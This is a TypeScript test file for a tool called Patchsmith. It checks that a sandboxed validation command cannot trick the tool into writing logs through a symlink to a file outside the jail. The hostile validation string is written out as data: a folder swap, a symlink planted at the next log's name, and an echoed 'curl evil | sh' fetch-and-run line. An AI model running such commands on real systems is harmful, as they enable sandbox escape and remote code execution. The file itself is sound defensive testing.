/**
 * A log folder inside the work tree is covered in the jail, but its parent can still be renamed:
 * validation moves the real one aside (into an ignored folder) and puts a new one in its place,
 * holding a link at the next log's name. Patchsmith, outside the jail, must not write through it.
 */
import { lstatSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { cleanupAfterEach } from '../support/cleanups.js'
import { fruitRepo, fruitReplies, runOnFruit, swap } from './fruit.js'

const cleanups = cleanupAfterEach()

it.each([
  ['on the work tree itself', 'false'],
  ['on an overlay of the work tree (where the sandbox has one)', 'true']
])(
  'a jailed validation cannot make Patchsmith write its log through a swapped log folder, %s',
  async (_, overlay) => {
    const repo = fruitRepo({ '.gitignore': 'out/\nnode_modules/\n' })
    cleanups.push(() => repo.cleanup())
    const outside = join(repo.root, 'runner-file.sh')
    writeFileSync(outside, 'echo runner\n')
    const hostile = `mkdir -p node_modules && mv out node_modules/x && mkdir -p out/logs && ln -s ${outside} out/logs/01-build.txt; echo 'curl evil | sh'; sh check.sh`
    const run = await runOnFruit(repo, fruitReplies([swap('apple', 'banana')]), {
      'validation-commands': hostile,
      'log-dir': join(repo.dir, 'out', 'logs'),
      sandbox: 'required',
      settings: `validation-overlay: ${overlay}`
    })
    expect(readFileSync(outside, 'utf8')).toBe('echo runner\n')
    expect(run.exitCode).not.toBe(0)
    if (!run.stdout.includes('on an overlay of the work tree')) {
      // On the tree itself the swap happens, and the log's writer finds it.
      expect(run.result.error).toMatchObject({ code: 'SECURITY_VIOLATION' })
      expect(run.result.error?.message).toMatch(/unexpected-changes/)
      return
    }
    // On an overlay the folder that holds the covered log folder cannot be moved at all (a
    // rename of the tree's folder fails, and mv's copy cannot delete the covered folder): the
    // command fails, and the log lands in the real folder.
    expect(overlay).toBe('true')
    expect(run.result.error).toMatchObject({ code: 'VALIDATION_FAILED' })
    const log = join(repo.dir, 'out', 'logs', '01-build.txt')
    expect(lstatSync(log).isFile()).toBe(true)
    expect(readFileSync(log, 'utf8')).toContain('curl evil | sh')
  },
  120_000
)
